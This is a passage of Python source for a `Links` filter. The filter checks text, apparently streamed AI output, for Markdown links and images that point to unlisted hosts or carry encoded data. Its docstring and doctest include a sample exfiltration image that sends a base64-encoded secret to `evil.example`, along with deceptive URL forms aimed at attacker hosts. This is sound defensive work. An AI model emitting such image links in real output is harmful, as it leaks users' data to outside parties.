    ``UNSAFE_LINK``. ``Finding.detail`` names the form and the reasons, never the URL.

    Host rules: an entry ``example.com`` allows ``example.com`` and every subdomain
    (``docs.example.com``), never ``badexample.com`` or ``example.com.evil.net``; matching is
    case-insensitive, ignores the port and a trailing dot, and compares IDNA (``xn--``) forms.
    ``"*"`` allows any host. IP-literal hosts (v4 in any browser-accepted form, v6) are allowed
    only when listed exactly. Relative URLs resolve against the page's own origin and are allowed.

    Also flagged, whatever the host: userinfo (``https://trusted.example@evil.example``), control
    or invisible characters, percent-encoded hosts and URLs longer than *max_length*. Flagged
    unless the host is listed explicitly: punycode and mixed-script hosts. Image URLs, and links
    allowed only through ``"*"``, are also flagged for base64- or hex-like query values of
    *max_query_data* characters or more (and images for URLs nested in their query).

    Streaming: a Markdown link or image whose destination is still open at the end of the text
    (``![x](https://evil.exa``), an HTML tag still open, or an autolink still open is reported
    as incomplete, so a stream holds it until it closes. A bare URL or reference definition at the
    end is judged as it stands. ``window`` equals *max_length*: no judged construct is longer.

    Args:
        allow_domains: Hosts links may point to; ``None`` (the default) allows any host.
        allow_schemes: URL schemes links may use. Images may use only ``http``/``https`` of these.
        image_domains: Hosts images may load from. By default the *allow_domains* list, or no
            host at all when *allow_domains* is ``None``.
        max_query_data: Shortest base64/hex-like query value reported as encoded data.
        max_length: Longest URL judged (and ``window``); longer ones are flagged.
        action: Default action for findings: ``"redact"``, ``"block"`` or ``"warn"``.
        name: Rule name reported in findings.

    Raises:
        ConfigError: An argument is malformed.

    >>> links = Links(allow_domains=["docs.python.org"])
    >>> [f.kind for f in links.check("![x](https://evil.example/p.png?q=c2VjcmV0IGtleTogMTIz)")]
    ['EXFIL_IMAGE']
    >>> links.check("See [the tutorial](https://docs.python.org/3/tutorial/).")
    ()

    .. versionadded:: 0.1
    """

    __slots__ = ("_rules", "action", "name", "window")

    def __init__(
        self,
        *,
        allow_domains: Iterable[str] | None = None,
        allow_schemes: Iterable[str] = ("https", "http", "mailto"),
        image_domains: Iterable[str] | None = None,
        max_query_data: int = 32,
        max_length: int = DEFAULT_MAX_LENGTH,
        action: str = "redact",
        name: str = "links",
    ) -> None:
        self._rules = _Rules(
            allow_domains=allow_domains,
            image_domains=image_domains,
            allow_schemes=allow_schemes,
            max_query_data=max_query_data,
            max_length=max_length,
        )
        self.action = _check_action(action)
        self.name = _check_name(name)
        self.window: int | None = max_length

    def __repr__(self) -> str:
        rules = self._rules
        domains = "any" if rules.any_host else sorted(rules.domains)
        images = "any" if rules.any_image_host else sorted(rules.image_domains)
        return (
            f"Links(allow_domains={domains!r}, image_domains={images!r}, "
            f"allow_schemes={sorted(rules.schemes)!r}, max_query_data={rules.max_query_data}, "
            f"action={self.action!r}, name={self.name!r})"
        )

    def check(self, text: str, /) -> Sequence[Finding]:
        """Return a finding per link or image that may not stay, ``()`` when all may."""
        if not isinstance(text, str):
            raise TypeError(f"{type(self).__name__}.check() takes a str, got {type(text).__name__}")
        if "]" not in text and "<" not in text and "://" not in text and not _WWW.search(text):
            return ()
        hits = _scan(text, self._rules.max_length)
        found = []
        for hit in _walk(hits):
            reasons = self._rules.judge(hit)
            if reasons:
                found.append(
                    Finding(
                        self.name,
                        "EXFIL_IMAGE" if hit.fetch else "UNSAFE_LINK",
                        hit.start,
                        hit.end,
                        detail=f"{hit.form}: {', '.join(reasons)}",
                    )
                )
        if not found:
            return ()
        found.sort(key=lambda f: (f.start, f.end))
        return tuple(found)
